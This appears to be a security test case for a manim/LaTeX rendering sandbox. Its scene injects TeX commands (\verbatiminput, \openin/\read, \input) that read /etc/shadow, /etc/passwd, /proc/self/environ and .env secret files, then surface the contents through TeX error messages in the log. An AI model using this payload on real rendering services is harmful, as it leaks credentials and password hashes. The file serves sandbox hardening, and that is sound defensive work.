# category: tex
# attack: LaTeX \verbatiminput and \openin+\read of host secret files, /proc/self/environ and the repo .env, \input{/etc/passwd,/etc/shadow}; what is read is raised as a TeX error so it lands in the log
# expect: any
# policy: accept
from manim import *

SECRET_FILES = HOSTILE_SECRET_FILES


class InputSecrets(Scene):
    def construct(self):
        secret_txt = [p for p in SECRET_FILES if p.endswith("secret.txt")]
        env_files = [p for p in SECRET_FILES if "/.chalk-canary-" in p and p.endswith(".env")]
        # /proc/self/environ last: it exists in every sandbox, and its NULs may stop a run.
        paths = (
            secret_txt + env_files + [HOSTILE_REPO + "/.env", "/etc/shadow", "/proc/self/environ"]
        )
        template = TexTemplate()
        template.add_to_preamble(r"\usepackage{verbatim}")
        # Every path in one run per way of reading: a file that is not there is skipped rather
        # than fatal, so each path is tried until one is read; what \read gets is raised as a
        # TeX error, so that it lands in the log.
        verbatim = "".join(
            r"\IfFileExists{" + path + "}{\\verbatiminput{" + path + "}}{}" for path in paths
        )
        read = r"\newread\rd" + "".join(
            r"\openin\rd=" + path + r" \ifeof\rd\else\read\rd to\x \errmessage{READ:\x}\fi"
            r"\closein\rd "
            for path in paths
        )
        for name, body in (("verbatim", verbatim), ("read", read)):
            try:
                self.add(Tex(body + "Hi", tex_template=template))
            except Exception as exc:
                print("tex", name, repr(exc)[:160])
        for path in ("/etc/passwd", "/etc/shadow", "/proc/self/environ"):
            try:
                self.add(Tex(r"\input{" + path + "}"))
            except Exception as exc:
                print("input", path, repr(exc)[:160])
        self.play(FadeIn(Square()), run_time=0.3)
